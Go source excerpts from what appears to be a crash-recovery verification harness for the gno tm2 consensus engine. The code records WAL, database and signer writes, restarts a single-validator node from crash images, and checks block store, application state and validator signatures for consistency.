		return nil
	}()
	defer func() {
		r.Ms = time.Since(t0).Milliseconds()
		if len(r.Failures) > 0 || r.Inconclusive != "" || os.Getenv("C33_DEBUG") != "" {
			r.Logs = logs.get()
			r.RecSigs = sig.entries
			if len(r.RecSigs) > 40 {
				r.RecSigs = r.RecSigs[:40]
			}
		}
	}()
	if pv != nil {
		fail("recovery-failed", "restart panics: %v | %s", clip(fmt.Sprint(pv), 700), clip(frames(stack), 700))
		if nd != nil {
			vf.Try(nd.stop)
		}
		return r
	}
	if err != nil {
		fail("recovery-failed", "restart fails: %v", err)
		if nd != nil {
			vf.Try(nd.stop)
		}
		return r
	}
	r.HandshakeBlocks = nd.handshakeBlocks
	r.StartHeight = nd.stateAtStart.LastBlockHeight
	r.CatchupErr = logs.has("Error on catchup replay")
	// what catch-up has to replay: the lines behind the marker of the height the node restarts in.
	// finalizeCommit(h) writes meta h+1; a fresh WAL starts with meta 0, which stands for the chain's first height.
	replayable := im.MarkerH == r.StartHeight+1 || (im.MarkerH == 0 && r.StartHeight == 0)
	if replayable && !r.CatchupErr {
		r.CatchupMsgs = im.WalMsgsAfterMarker
	}
	if r.CatchupErr && replayable && im.WalMsgsAfterMarker > 0 {
		fail("wal-catchup-skipped-messages", "the WAL on disk holds %d records of height %d behind its last height marker (meta h=%d), but catch-up replayed nothing: %v",
			im.WalMsgsAfterMarker, r.StartHeight+1, im.MarkerH, logs.get())
	}

	// ---- let it commit 2 more heights than the image's block store held
	target := im.StoreH + 2
	deadline := time.After(100 * time.Second)
	tick := time.NewTicker(2 * time.Millisecond)
	halted, stuck := false, false
	lastHRS, lastMove := "", time.Now()
wait:
	for {
		select {
		case <-nd.halted:
			halted = true
			break wait
		case <-deadline:
			r.Inconclusive = fmt.Sprintf("the recovered node did not reach height %d within 100 s (store height %d; logs %v)", target, nd.bs.Height(), logs.get())
			break wait
		case <-tick.C:
			if nd.bs.Height() >= target && nd.cs.GetState().LastBlockHeight >= target {
				break wait
			}
			rs := nd.cs.GetRoundState()
			hrs := fmt.Sprintf("%d/%d/%d", rs.Height, rs.Round, rs.Step)
			if hrs != lastHRS {
				lastHRS, lastMove = hrs, time.Now()
			} else if time.Since(lastMove) > 2*time.Second && logs.has(fmt.Sprintf("Error signing vote height=%d round=%d", rs.Height, rs.Round)) {
				// structural verdict, the clock only decides when to look: the only validator could not sign its
				// vote for the round it is in, so no +2/3 (not even "any") can form and no timeout is pending
				stuck = true
				fail("stuck-after-recovery", "the recovered node sits at height/round/step %s for more than 2 s (largest timeout 400 ms): its PrivValidator refuses the vote of this round, so the only validator can never leave it; store height %d, target %d: %v",
					hrs, nd.bs.Height(), target, clip(strings.Join(logs.get(), " || "), 1500))
				break wait
			}
		}
	}
	tick.Stop()
	nd.stop()
	if halted {
		fail("consensus-halted-after-recovery", "the consensus routine of the recovered node stopped by itself at store height %d (target %d): %v", nd.bs.Height(), target, clip(strings.Join(logs.get(), " || "), 1500))
		return r
	}
	if r.Inconclusive != "" {
		return r
	}
	if stuck {
		r.FinalHeight = nd.bs.Height()
		r.Refused = sig.refused
		checkSignatures(r, seed, append(append([]sigEntry(nil), refSigs[:im.SigPrefix]...), sig.entries...), fail)
		return r
	}

	// ---- (2) block store, state and application agree
	bs := store.NewBlockStore(blockDB)
	st := sm.LoadState(stateDB)
	ast, aerr := loadAppState(appDB)
	r.FinalHeight = bs.Height()
	if aerr != nil {
		fail("app-state-unreadable", "application state cannot be read after recovery: %v", aerr)
		return r
	}
	if bs.Height() != st.LastBlockHeight || ast.Height != st.LastBlockHeight {
		fail("heights-disagree-after-recovery", "after recovery and %d more heights: block store height %d, state height %d, application height %d", bs.Height()-im.StoreH, bs.Height(), st.LastBlockHeight, ast.Height)
	} else if !bytes.Equal(st.AppHash, ast.Hash) {
		fail("apphash-disagrees-after-recovery", "at height %d state.AppHash=%X but the application's hash is %X", st.LastBlockHeight, st.AppHash, ast.Hash)
	}
	if mem := nd.app.st; mem.Height != ast.Height || !bytes.Equal(mem.Hash, ast.Hash) {
		fail("app-memory-differs-from-durable", "running application at height %d hash %X, its db at height %d hash %X", mem.Height, mem.Hash, ast.Height, ast.Hash)
	}
	for _, a := range anom.get() {
		fail("app-received-wrong-call", "%s", a)
		break
	}

	// ---- (3) application state == fresh replay of the node's own stored blocks
	fresh := newKVApp(memdb.NewMemDB(), &anomalies{})
	fresh.InitChain(abci.RequestInitChain{ChainID: chainID})
	var prevHash []byte
	replayOK := true
	for h := int64(1); h <= bs.Height(); h++ {
		blk := bs.LoadBlock(h)
		if blk == nil {
			fail("stored-block-missing", "block %d cannot be loaded from the block store (store height %d)", h, bs.Height())
			replayOK = false
			break
		}
		if !bytes.Equal(blk.AppHash, prevHash) {
			fail("block-apphash-not-app-state", "block %d carries AppHash %X, a fresh application that executed blocks 1..%d has %X", h, blk.AppHash, h-1, prevHash)
			replayOK = false
			break
		}
		fresh.BeginBlock(abci.RequestBeginBlock{Hash: blk.Hash(), Header: blk.Header.Copy()})
		for _, tx := range blk.Txs {
			fresh.DeliverTx(abci.RequestDeliverTx{Tx: tx})
		}
		fresh.EndBlock(abci.RequestEndBlock{Height: h})
		prevHash = fresh.Commit().Data
		r.BlocksReplayed++
	}
	if replayOK && bs.Height() == ast.Height {
		want, _ := json.Marshal(fresh.st)
		got, _ := appDB.Get(appKey)
		if !bytes.Equal(want, got) {
			fail("app-state-differs-from-block-replay", "application state after recovery differs from a fresh application that executed the node's stored blocks 1..%d: node %s, replay %s", bs.Height(), clip(string(got), 400), clip(string(want), 400))
		}
	}

	// ---- (4) stored and committed blocks are unchanged
	for h, hash := range before {
		m := bs.LoadBlockMeta(h)
		if m == nil || fmt.Sprintf("%X", m.BlockID.Hash) != hash {
			fail("stored-block-changed", "block %d was in the block store at the crash (hash %s) and is %v after recovery", h, hash, metaHash(m))
			break
		}
	}
	for h := int64(1); h <= im.StateH; h++ { // heights the reference run had committed (state saved) before the crash point
		m := bs.LoadBlockMeta(h)
		if m == nil || fmt.Sprintf("%X", m.BlockID.Hash) != refHashes[h] {
			fail("committed-block-replaced", "height %d was committed before the crash with block %s, after recovery the chain has %v there", h, refHashes[h], metaHash(m))
			break
		}
	}

	// ---- (5) signatures: reference prefix up to the crash point + everything signed after recovery
	r.Refused = sig.refused
	checkSignatures(r, seed, append(append([]sigEntry(nil), refSigs[:im.SigPrefix]...), sig.entries...), fail)
	return r
}

func metaHash(m *types.BlockMeta) string {
	if m == nil {
		return "nothing"
	}
	return fmt.Sprintf("%X", m.BlockID.Hash)
}

func frames(stack string) string {
	// keep the frames below the panic
	if i := strings.Index(stack, "panic("); i >= 0 {
		stack = stack[i:]
	}
	var out []string
	for _, l := range strings.Split(stack, "\n") {
		if strings.HasPrefix(l, "github.com/gnolang/gno/") || strings.HasPrefix(l, "verifharness/") {
			out = append(out, strings.TrimPrefix(l, "github.com/gnolang/gno/"))
		}
		if len(out) >= 8 {
			break
		}
	}
	return strings.Join(out, " < ")
}

func checkSignatures(r *result, seed int64, all []sigEntry, fail func(key, format string, a ...any)) {
	_, priv := genesis(seed)
	pub := priv.PubKey()
	type hrs struct {
		h int64
		r int
		t string
	}
	first := map[hrs]sigEntry{}
	// lock: the block this single validator precommitted at (height, round)
	type lock struct {
		round int
		block string
	}
	locks := map[int64]lock{}
	for _, e := range all {
		r.SigsCompared++
		if e.R > r.MaxRound && e.Phase == "rec" {
			r.MaxRound = e.R
		}
		if !pub.VerifyBytes(e.SignBytes, e.Sig) {
			fail("invalid-signature-returned:"+e.Type, "the signature returned for %s %d/%d does not verify over the returned message", e.Type, e.H, e.R)
		}
		k := hrs{e.H, e.R, e.Type}
		if o, seen := first[k]; seen {
			if e.Phase == "rec" {
				r.SameHRSResigns++
				if !e.ReqTime.Equal(o.RetTime) {
					r.TimestampOnly++
				}
			}
			switch {
			case o.Content != e.Content:
				fail("conflicting-signature:"+e.Type, "two signatures for %s at height %d round %d over different messages: first (%s) %s, later (%s) %s", e.Type, e.H, e.R, o.Phase, o.Content, e.Phase, e.Content)
			case !bytes.Equal(o.SignBytes, e.SignBytes) || !bytes.Equal(o.Sig, e.Sig):
				fail("resign-changed-signature:"+e.Type, "%s at height %d round %d was signed again with only the timestamp different, but not the ORIGINAL timestamp+signature came back: first (%s) ts %s sig %X…, later (%s) ts %s sig %X…",
					e.Type, e.H, e.R, o.Phase, o.RetTime.UTC().Format(time.RFC3339Nano), clipBytes(o.Sig), e.Phase, e.RetTime.UTC().Format(time.RFC3339Nano), clipBytes(e.Sig))
			}
		} else {
			first[k] = e
		}
		// lock rule for a single validator: a polka for another block cannot exist without its own prevote for it
		if e.Type == "prevote" || e.Type == "precommit" {
			if l, ok := locks[e.H]; ok && e.R > l.round && e.Block != "" && e.Block != l.block {
				fail("lock-violated-after-crash", "the validator precommitted block %s at height %d round %d and later signed a %s for block %s at round %d (%s)", clip(l.block, 12), e.H, l.round, e.Type, clip(e.Block, 12), e.R, e.Phase)
			}
			if e.Type == "precommit" && e.Block != "" {
				if l, ok := locks[e.H]; !ok || e.R >= l.round {
					locks[e.H] = lock{e.R, e.Block}
				}
			}
		}
	}
}
