package c33

import (
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/gnolang/gno/tm2/pkg/amino"
	abci "github.com/gnolang/gno/tm2/pkg/bft/abci/types"
	"github.com/gnolang/gno/tm2/pkg/bft/appconn"
	cons "github.com/gnolang/gno/tm2/pkg/bft/consensus"
	cnscfg "github.com/gnolang/gno/tm2/pkg/bft/consensus/config"
	mempl "github.com/gnolang/gno/tm2/pkg/bft/mempool"
	mcfg "github.com/gnolang/gno/tm2/pkg/bft/mempool/config"
	"github.com/gnolang/gno/tm2/pkg/bft/privval"
	"github.com/gnolang/gno/tm2/pkg/bft/privval/signer/local"
	"github.com/gnolang/gno/tm2/pkg/bft/proxy"
	sm "github.com/gnolang/gno/tm2/pkg/bft/state"
	"github.com/gnolang/gno/tm2/pkg/bft/store"
	"github.com/gnolang/gno/tm2/pkg/bft/types"
	walm "github.com/gnolang/gno/tm2/pkg/bft/wal"
	"github.com/gnolang/gno/tm2/pkg/crypto"
	"github.com/gnolang/gno/tm2/pkg/crypto/ed25519"
	dbm "github.com/gnolang/gno/tm2/pkg/db"
	"github.com/gnolang/gno/tm2/pkg/db/memdb"
	"github.com/gnolang/gno/tm2/pkg/events"

	"verifharness/internal/dbx"
)

const (
	chainID    = "c33-chain"
	walMaxSize = 1048576 // consensus.maxMsgSize
)

// ---------------------------------------------------------------- world: ONE lock, ONE unit counter

type unitRec struct {
	Index  int    `json:"index"`
	Medium string `json:"medium"` // blockdb | statedb | appdb | wal | privval
	Kind   string `json:"kind"`
	Detail string `json:"detail,omitempty"`
}

// world serialises every durable unit of every medium of one node and numbers them globally.
type world struct {
	mu    sync.Mutex
	units []unitRec
	// snap is called under mu right after a unit has been applied.
	snap func(u unitRec)
}

func (w *world) record(medium, kind, detail string) {
	u := unitRec{Index: len(w.units), Medium: medium, Kind: kind, Detail: detail}
	w.units = append(w.units, u)
	if w.snap != nil {
		w.snap(u)
	}
}

// keySpy remembers the key of the last single write (for the "what was in flight" record).
type keySpy struct {
	dbm.DB
	last *string
}

func (k keySpy) Set(key, v []byte) error     { *k.last = string(key); return k.DB.Set(key, v) }
func (k keySpy) SetSync(key, v []byte) error { *k.last = string(key); return k.DB.SetSync(key, v) }
func (k keySpy) Delete(key []byte) error     { *k.last = "del " + string(key); return k.DB.Delete(key) }
func (k keySpy) DeleteSync(key []byte) error {
	*k.last = "del " + string(key)
	return k.DB.DeleteSync(key)
}

// recordedDB puts base behind a dbx.Recorder whose units are taken under the world lock.
func recordedDB(w *world, name string, base *memdb.MemDB) *dbx.Recorder {
	last := new(string)
	rec := dbx.NewRecorder(keySpy{DB: base, last: last})
	rec.Before = func(kind string) { w.mu.Lock(); *last = "" }
	rec.OnUnit = func(u dbx.Unit) {
		d := *last
		if u.Ops > 1 {
			d = fmt.Sprintf("batch of %d", u.Ops)
		}
		w.record(name, u.Kind, clipKey(d))
		w.mu.Unlock()
	}
	return rec
}

func clipKey(s string) string {
	if len(s) > 60 {
		return s[:60] + "…"
	}
	for _, r := range s {
		if r < 32 || r > 126 {
			return fmt.Sprintf("%x", s)
		}
	}
	return s
}

// walSpy forwards to the real file WAL; every Write/WriteSync/WriteMetaSync/FlushAndSync is a unit.
type walSpy struct {
	inner walm.WAL
	w     *world
	// marker is the highest MetaMessage height that is on disk (WriteMetaSync flushes).
	marker int64
}

var _ walm.WAL = (*walSpy)(nil)

func describeWALMsg(m walm.WALMessage) string {
	s := fmt.Sprintf("%T", m)
	s = strings.TrimPrefix(s, "consensus.")
	v := fmt.Sprintf("%v", m)
	if len(v) > 70 {
		v = v[:70] + "…"
	}
	return s + " " + v
}

func (s *walSpy) SetLogger(l *slog.Logger) { s.inner.SetLogger(l) }
func (s *walSpy) Write(m walm.WALMessage) error {
	s.w.mu.Lock()
	defer s.w.mu.Unlock()
	err := s.inner.Write(m)
	s.w.record("wal", "write", describeWALMsg(m))
	return err
}

func (s *walSpy) WriteSync(m walm.WALMessage) error {
	s.w.mu.Lock()
	defer s.w.mu.Unlock()
	err := s.inner.WriteSync(m)
	s.w.record("wal", "writesync", describeWALMsg(m))
	return err
}

func (s *walSpy) WriteMetaSync(m walm.MetaMessage) error {
	s.w.mu.Lock()
	defer s.w.mu.Unlock()
	err := s.inner.WriteMetaSync(m)
	if err == nil && m.Height > s.marker {
		s.marker = m.Height
	}
	s.w.record("wal", "writemetasync", fmt.Sprintf("ENDHEIGHT %d (meta h=%d)", m.Height-1, m.Height))
	return err
}

func (s *walSpy) FlushAndSync() error {
	s.w.mu.Lock()
	defer s.w.mu.Unlock()
	err := s.inner.FlushAndSync()
	s.w.record("wal", "flushandsync", "")
	return err
}

func (s *walSpy) SearchForHeight(h int64, o *walm.WALSearchOptions) (io.ReadCloser, bool, error) {
	return s.inner.SearchForHeight(h, o)
}

// Start starts the real WAL (an empty WAL gets its "meta h=0" line here: one unit).
func (s *walSpy) Start() error {
	s.w.mu.Lock()
	defer s.w.mu.Unlock()
	err := s.inner.Start()
	s.w.record("wal", "start", "open; empty WAL gets meta h=0")
	return err
}
func (s *walSpy) Stop() error { return s.inner.Stop() }
func (s *walSpy) Wait()       { s.inner.Wait() }

// ---------------------------------------------------------------- signature log (harness side, survives crashes)

type sigEntry struct {
	Phase     string    `json:"phase"` // ref | rec
	H         int64     `json:"h"`
	R         int       `json:"r"`
	Type      string    `json:"type"` // proposal | prevote | precommit
	Content   string    `json:"content"` // everything that is signed except the timestamp
	Block     string    `json:"block"`   // hex block hash ("" = nil)
	ReqTime   time.Time `json:"req_time"`
	RetTime   time.Time `json:"ret_time"`
	SignBytes []byte    `json:"sign_bytes"` // of the message as RETURNED
	Sig       []byte    `json:"sig"`
}

type sigLog struct {
	mu      sync.Mutex
	phase   string
	entries []sigEntry
	refused int
}

func (l *sigLog) len() int { l.mu.Lock(); defer l.mu.Unlock(); return len(l.entries) }

// pvSpy wraps the real file PrivValidator: every signature it RETURNS goes to the log.
type pvSpy struct {
	inner types.PrivValidator
	w     *world // may be nil (recovery)
	log   *sigLog
	// failProposal: heights at which round-0 proposal signing reports a signer error (reference workload
	// only; models an unavailable signer, forces the height into round 1).
	failProposal map[int64]bool
}

var _ types.PrivValidator = (*pvSpy)(nil)

func blockIDContent(b types.BlockID) string {
	return fmt.Sprintf("%X/%d/%X", b.Hash, b.PartsHeader.Total, b.PartsHeader.Hash)
}

func typeName(t types.SignedMsgType) string {
	switch t {
	case types.PrevoteType:
		return "prevote"
	case types.PrecommitType:
		return "precommit"
	case types.ProposalType:
		return "proposal"
	}
	return fmt.Sprintf("type%d", t)
}

func (p *pvSpy) PubKey() crypto.PubKey { return p.inner.PubKey() }
func (p *pvSpy) Close() error         { return p.inner.Close() }

func (p *pvSpy) SignVote(chain string, v *types.Vote) error {
	if p.w != nil {
		p.w.mu.Lock()
		defer p.w.mu.Unlock()
	}
	req := v.Timestamp
	err := p.inner.SignVote(chain, v)
	p.log.mu.Lock()
	if err == nil {
		p.log.entries = append(p.log.entries, sigEntry{Phase: p.log.phase, H: v.Height, R: v.Round, Type: typeName(v.Type),
			Content: fmt.Sprintf("%s|%d|%d|%s|%s", typeName(v.Type), v.Height, v.Round, blockIDContent(v.BlockID), chain),
			Block:   hex.EncodeToString(v.BlockID.Hash), ReqTime: req, RetTime: v.Timestamp,
			SignBytes: v.SignBytes(chain), Sig: append([]byte(nil), v.Signature...)})
	} else {
		p.log.refused++
	}
	p.log.mu.Unlock()
	if p.w != nil {
		p.w.record("privval", "signvote", fmt.Sprintf("%s %d/%d block=%X err=%v", typeName(v.Type), v.Height, v.Round, clipBytes(v.BlockID.Hash), err))
	}
	return err
}

func (p *pvSpy) SignProposal(chain string, pr *types.Proposal) error {
	if p.w != nil {
		p.w.mu.Lock()
		defer p.w.mu.Unlock()
	}
	if pr.Round == 0 && p.failProposal[pr.Height] {
		if p.w != nil {
			p.w.record("privval", "signproposal", fmt.Sprintf("proposal %d/%d: injected signer error", pr.Height, pr.Round))
		}
		return errors.New("c33: signer unavailable (injected)")
	}
	req := pr.Timestamp
	err := p.inner.SignProposal(chain, pr)
	p.log.mu.Lock()
	if err == nil {
		p.log.entries = append(p.log.entries, sigEntry{Phase: p.log.phase, H: pr.Height, R: pr.Round, Type: "proposal",
			Content: fmt.Sprintf("proposal|%d|%d|pol%d|%s|%s", pr.Height, pr.Round, pr.POLRound, blockIDContent(pr.BlockID), chain),
			Block:   hex.EncodeToString(pr.BlockID.Hash), ReqTime: req, RetTime: pr.Timestamp,
			SignBytes: pr.SignBytes(chain), Sig: append([]byte(nil), pr.Signature...)})
	} else {
		p.log.refused++
	}
	p.log.mu.Unlock()
	if p.w != nil {
		p.w.record("privval", "signproposal", fmt.Sprintf("proposal %d/%d block=%X err=%v", pr.Height, pr.Round, clipBytes(pr.BlockID.Hash), err))
	}
	return err
}

func clipBytes(b []byte) []byte {
	if len(b) > 6 {
		return b[:6]
	}
	return b
}

// ---------------------------------------------------------------- the application

// appState is the whole application state; it is persisted with ONE db write at Commit.
type appState struct {
	Height  int64             `json:"height"`
	Hash    []byte            `json:"hash"` // hash chain over (height, delivered txs)
	TxCount int64             `json:"tx_count"`
	KV      map[string]string `json:"kv"`
}

var appKey = []byte("c33app")

type anomalies struct {
	mu   sync.Mutex
	list []string
}

func (a *anomalies) add(s string) { a.mu.Lock(); a.list = append(a.list, s); a.mu.Unlock() }
func (a *anomalies) get() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.list...)
}

// kvApp: a persistent ABCI application. The committed state lives in st; a block's
// effects are staged in work and become durable only at Commit.
type kvApp struct {
	abci.BaseApplication
	db      dbm.DB
	st      appState
	work    map[string]string
	run     []byte
	runTxs  int64
	inBlock bool
	anom    *anomalies
}

func loadAppState(db dbm.DB) (appState, error) {
	st := appState{KV: map[string]string{}}
	b, err := db.Get(appKey)
	if err != nil {
		return st, err
	}
	if len(b) == 0 {
		return st, nil
	}
	if err := json.Unmarshal(b, &st); err != nil {
		return st, err
	}
	if st.KV == nil {
		st.KV = map[string]string{}
	}
	return st, nil
}

func newKVApp(db dbm.DB, an *anomalies) *kvApp {
	st, err := loadAppState(db)
	if err != nil {
		panic(fmt.Sprintf("c33 app: cannot load state: %v", err))
	}
	return &kvApp{db: db, st: st, anom: an}
}

func (a *kvApp) Info(abci.RequestInfo) abci.ResponseInfo {
	return abci.ResponseInfo{LastBlockHeight: a.st.Height, LastBlockAppHash: a.st.Hash}
}

func (a *kvApp) InitChain(req abci.RequestInitChain) abci.ResponseInitChain {
	if a.st.Height != 0 {
		a.anom.add(fmt.Sprintf("InitChain on an application that is at height %d", a.st.Height))
	}
	return abci.ResponseInitChain{}
}

func (a *kvApp) CheckTx(abci.RequestCheckTx) abci.ResponseCheckTx { return abci.ResponseCheckTx{} }

func (a *kvApp) BeginBlock(req abci.RequestBeginBlock) abci.ResponseBeginBlock {
	h := int64(-1)
	if req.Header != nil {
		h = req.Header.GetHeight()
	}
	if h != a.st.Height+1 {
		a.anom.add(fmt.Sprintf("BeginBlock for height %d on an application whose last committed height is %d", h, a.st.Height))
	}
	if a.inBlock {
		a.anom.add(fmt.Sprintf("BeginBlock for height %d while a block is still open", h))
	}
	a.inBlock = true
	a.work = map[string]string{}
	var hb [8]byte
	binary.BigEndian.PutUint64(hb[:], uint64(h))
	s := sha256.Sum256(append(append([]byte(nil), a.st.Hash...), hb[:]...))
	a.run = s[:]
	a.runTxs = 0
	return abci.ResponseBeginBlock{}
}

func (a *kvApp) DeliverTx(req abci.RequestDeliverTx) abci.ResponseDeliverTx {
	if !a.inBlock {
		a.anom.add("DeliverTx outside a block")
		return abci.ResponseDeliverTx{}
	}
	s := sha256.Sum256(append(append([]byte(nil), a.run...), req.Tx...))
	a.run = s[:]
	a.runTxs++
	k, v, ok := strings.Cut(string(req.Tx), "=")
	if !ok {
		k, v = string(req.Tx), string(req.Tx)
	}
	a.work[k] = v
	var r abci.ResponseDeliverTx
	r.Data = []byte(fmt.Sprintf("%d", a.st.TxCount+a.runTxs))
	return r
}

func (a *kvApp) EndBlock(abci.RequestEndBlock) abci.ResponseEndBlock { return abci.ResponseEndBlock{} }

func (a *kvApp) Commit() abci.ResponseCommit {
	if !a.inBlock {
		a.anom.add(fmt.Sprintf("Commit without a block (app height %d)", a.st.Height))
		var r abci.ResponseCommit
		r.Data = a.st.Hash
		return r
	}
	a.inBlock = false
	for k, v := range a.work {
		a.st.KV[k] = v
	}
	a.st.Height++
	a.st.Hash = a.run
	a.st.TxCount += a.runTxs
	b, err := json.Marshal(a.st)
	if err != nil {
		panic(err)
	}
	if err := a.db.SetSync(appKey, b); err != nil { // the ONE durable write of a commit
		panic(err)
	}
	var r abci.ResponseCommit
	r.Data = a.st.Hash
	return r
}

// ---------------------------------------------------------------- log capture

type logCap struct {
	mu    sync.Mutex
	lines []string
}

func (l *logCap) Enabled(_ context.Context, lv slog.Level) bool { return lv >= slog.LevelWarn }
func (l *logCap) Handle(_ context.Context, r slog.Record) error {
	var sb strings.Builder
	sb.WriteString(r.Level.String() + " " + r.Message)
	r.Attrs(func(a slog.Attr) bool {
		if a.Key == "stack" {
			v := a.Value.String()
			if len(v) > 1500 {
				v = v[:1500]
			}
			sb.WriteString(" stack=" + v)
			return true
		}
		v := a.Value.String()
		if len(v) > 300 {
			v = v[:300] + "…"
		}
		sb.WriteString(" " + a.Key + "=" + v)
		return true
	})
	l.mu.Lock()
	if len(l.lines) < 200 {
		l.lines = append(l.lines, sb.String())
	}
	l.mu.Unlock()
	return nil
}
func (l *logCap) WithAttrs([]slog.Attr) slog.Handler { return l }
func (l *logCap) WithGroup(string) slog.Handler      { return l }
func (l *logCap) get() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.lines...)
}
func (l *logCap) has(sub string) bool {
	for _, s := range l.get() {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------- node assembly (as node.NewNode does it)

func genesis(seed int64) (*types.GenesisDoc, ed25519.PrivKeyEd25519) {
	priv := ed25519.GenPrivKeyFromSecret([]byte(fmt.Sprintf("c33-validator-%d", seed)))
	gd := &types.GenesisDoc{
		GenesisTime: time.Unix(1_700_000_000, 0).UTC(),
		ChainID:     chainID,
		Validators:  []types.GenesisValidator{{Address: priv.PubKey().Address(), PubKey: priv.PubKey(), Power: 10, Name: "v0"}},
	}
	if err := gd.ValidateAndComplete(); err != nil {
		panic(err)
	}
	return gd, priv
}

// writeKeyFile writes the validator key file the local signer loads.
func writeKeyFile(path string, priv ed25519.PrivKeyEd25519) {
	fk := &local.FileKey{PrivKey: priv, PubKey: priv.PubKey(), Address: priv.PubKey().Address()}
	b, err := amino.MarshalJSONIndent(fk, "", "  ")
	if err != nil {
		panic(err)
	}
	if err := os.WriteFile(path, b, 0o600); err != nil {
		panic(err)
	}
}

func consensusConfig(dir string) *cnscfg.ConsensusConfig {
	cc := cnscfg.TestConsensusConfig()
	cc.RootDir = dir
	cc.SetWalFile(filepath.Join(dir, "wal", "wal"))
	cc.TimeoutPropose = 400 * time.Millisecond
	cc.TimeoutPrevote = 50 * time.Millisecond
	cc.TimeoutPrecommit = 50 * time.Millisecond
	cc.TimeoutCommit = 20 * time.Millisecond
	cc.SkipTimeoutCommit = true
	cc.CreateEmptyBlocks = true
	cc.CreateEmptyBlocksInterval = 0
	return cc
}

type nodeOpts struct {
	seed                     int64
	dir                      string // holds wal/, pv_key.json, pv_state.json
	blockDB, stateDB, appDB dbm.DB
	w                        *world // reference run only: spy WAL + unit recording
	sig                      *sigLog
	logs                     *logCap
	anom                     *anomalies
	failProposal             map[int64]bool
	onBlock                  func(h int64, n *node)
}

type node struct {
	cs              *cons.ConsensusState
	bs              *store.BlockStore
	evsw            events.EventSwitch
	proxyApp        appconn.AppConns
	app             *kvApp
	mempool         *mempl.CListMempool
	wal             *walSpy
	handshakeBlocks int
	stateAtStart    sm.State
	halted          chan struct{}
}

// startNode assembles and starts a single-validator node the way node.NewNode/OnStart do:
// load state or genesis, start the app connections, Handshake, reload state, build mempool /
// block executor / consensus state, start consensus (which runs the WAL catch-up).
func startNode(o nodeOpts) (*node, error) {
	gd, _ := genesis(o.seed)
	logger := slog.New(o.logs)
	n := &node{}
	n.bs = store.NewBlockStore(o.blockDB)
	state, err := sm.LoadStateFromDBOrGenesisDoc(o.stateDB, gd)
	if err != nil {
		return nil, fmt.Errorf("load state: %w", err)
	}
	n.app = newKVApp(o.appDB, o.anom)
	n.proxyApp = appconn.NewAppConns(proxy.NewLocalClientCreator(n.app))
	n.proxyApp.SetLogger(logger)
	if err := n.proxyApp.Start(); err != nil {
		return nil, fmt.Errorf("proxy app start: %w", err)
	}
	n.evsw = events.NewEventSwitch()
	if err := n.evsw.Start(); err != nil {
		return nil, err
	}
	hs := cons.NewHandshaker(o.stateDB, state, n.bs, gd)
	hs.SetLogger(logger)
	hs.SetEventSwitch(n.evsw)
	if err := hs.Handshake(n.proxyApp); err != nil {
		return n, fmt.Errorf("handshake: %w", err)
	}
	n.handshakeBlocks = hs.NBlocks()
	state = sm.LoadState(o.stateDB)
	n.stateAtStart = state.Copy()

	n.mempool = mempl.NewCListMempool(mcfg.TestMempoolConfig(), n.proxyApp.Mempool(), state.LastBlockHeight, state.ConsensusParams.Block.MaxTxBytes)
	blockExec := sm.NewBlockExecutor(o.stateDB, logger, n.proxyApp.Consensus(), n.mempool)
	cc := consensusConfig(o.dir)
	n.cs = cons.NewConsensusState(cc, state.Copy(), blockExec, n.bs, n.mempool, cons.NoOpEvidencePool{})
	n.cs.SetLogger(logger)

	signer, err := local.LoadOrMakeLocalSigner(filepath.Join(o.dir, "pv_key.json"))
	if err != nil {
		return n, fmt.Errorf("load signer: %w", err)
	}
	pv, err := privval.NewPrivValidator(signer, filepath.Join(o.dir, "pv_state.json"))
	if err != nil {
		return n, fmt.Errorf("load priv validator: %w", err)
	}
	n.cs.SetPrivValidator(&pvSpy{inner: pv, w: o.w, log: o.sig, failProposal: o.failProposal})
	n.cs.SetEventSwitch(n.evsw)
	if o.onBlock != nil {
		n.evsw.AddListener("c33", func(ev events.Event) {
			if nb, ok := ev.(types.EventNewBlock); ok {
				o.onBlock(nb.Block.Height, n)
			}
		})
	}
	if o.w != nil {
		// reference run: the real file WAL behind the spy; no periodic flush, so that what is
		// on disk is exactly what the code under test has flushed itself
		real, err := walm.NewWAL(cc.WalFile(), walMaxSize)
		if err != nil {
			return n, err
		}
		real.SetFlushInterval(time.Hour)
		real.SetLogger(logger)
		n.wal = &walSpy{inner: real, w: o.w}
		if err := n.wal.Start(); err != nil {
			return n, err
		}
		n.cs.VerifSetWAL(n.wal)
	}
	// else: production path, OnStart opens the WAL file itself
	if err := n.cs.Start(); err != nil {
		return n, fmt.Errorf("consensus start: %w", err)
	}
	n.halted = make(chan struct{})
	go func() { n.cs.Wait(); close(n.halted) }()
	return n, nil
}

func (n *node) stop() {
	if n.cs != nil && n.cs.IsRunning() {
		n.cs.Stop()
		if n.halted != nil {
			<-n.halted
		}
	}
	if n.proxyApp != nil {
		n.proxyApp.Stop()
	}
}

// ---------------------------------------------------------------- media helpers

type kv struct{ K, V []byte }

func dumpDB(db dbm.DB) []kv {
	var out []kv
	it, err := db.Iterator(nil, nil)
	if err != nil {
		panic(err)
	}
	defer it.Close()
	for ; it.Valid(); it.Next() {
		out = append(out, kv{append([]byte(nil), it.Key()...), append([]byte(nil), it.Value()...)})
	}
	return out
}

func loadDB(kvs []kv) *memdb.MemDB {
	db := memdb.NewMemDB()
	for _, e := range kvs {
		db.Set(e.K, e.V)
	}
	return db
}

func sameKVs(a, b []kv) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if string(a[i].K) != string(b[i].K) || string(a[i].V) != string(b[i].V) {
			return false
		}
	}
	return true
}

// readDir reads every regular file of dir as it is ON DISK now (nothing is flushed for this).
func readDir(dir string) map[string][]byte {
	out := map[string][]byte{}
	ents, err := os.ReadDir(dir)
	if err != nil {
		return out
	}
	for _, e := range ents {
		if e.IsDir() {
			continue
		}
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err == nil {
			out[e.Name()] = b
		}
	}
	return out
}

func sameFiles(a, b map[string][]byte) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		w, ok := b[k]
		if !ok || string(v) != string(w) {
			return false
		}
	}
	return true
}

func writeDir(dir string, files map[string][]byte) {
	os.MkdirAll(dir, 0o700)
